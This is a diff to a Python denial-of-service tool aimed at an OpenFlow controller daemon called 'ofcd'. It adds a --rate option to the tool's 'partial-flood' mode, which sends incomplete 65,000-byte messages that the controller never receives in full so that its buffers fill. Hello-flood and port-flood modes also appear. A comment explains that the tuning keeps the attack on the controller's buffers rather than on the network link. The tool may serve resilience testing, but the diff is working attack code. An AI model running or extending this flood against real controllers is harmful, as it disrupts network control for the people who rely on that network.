@@ -159,6 +159,14 @@ def run(args):
     # The first 65,000 bytes of a 65,535-byte message: ofcd can frame
     # nothing until the rest comes, which never does.
     partial = struct.pack("!BBHI", 4, PORT_STATUS, 65535, 0x45) + b"\0" * (65000 - 8)
+    # --rate: half messages per second at most, so the attack fills ofcd's
+    # buffers rather than the link (a burst of 1,200 x 64 KiB overflows the
+    # tap's queue, which drops every sender's packets alike).
+    partials = [0]
+    t_start = time.monotonic()
+
+    def partials_allowed():
+        return not args.rate or partials[0] < (time.monotonic() - t_start) * args.rate
     echo = msg(ECHO_REQUEST, 0x42, b"x" * 8)
     held = msg(BARRIER_REQUEST, 0x43)
     while time.monotonic() < end:
@@ -198,8 +206,10 @@ def run(args):
             if args.mode == "hello-flood" and len(p.out) < 4096:
                 p.send(held * 64, stats)
                 stats["sent_msgs"] += 64
-            elif args.mode == "partial-flood" and p in established and not p.partial_sent:
+            elif args.mode == "partial-flood" and p in established and not p.partial_sent \
+                    and partials_allowed():
                 p.partial_sent = True
+                partials[0] += 1
                 p.send(partial, stats)
                 stats["sent_msgs"] += 1
             elif args.mode == "port-flood" and p in established and len(p.out) < 65536:
@@ -230,6 +240,8 @@ def main():
     ap.add_argument("--conns", type=int, default=1)
     ap.add_argument("--duration", type=float, default=10.0)
     ap.add_argument("--dpid", default="dead")
+    ap.add_argument("--rate", type=float, default=0,
+                    help="partial-flood: half messages per second at most (0: no bound)")
     ap.add_argument("--bind", default=None,
                     help="source address(es), comma-separated: connections take turns")
     ap.add_argument("--rcvbuf", type=int, default=0)
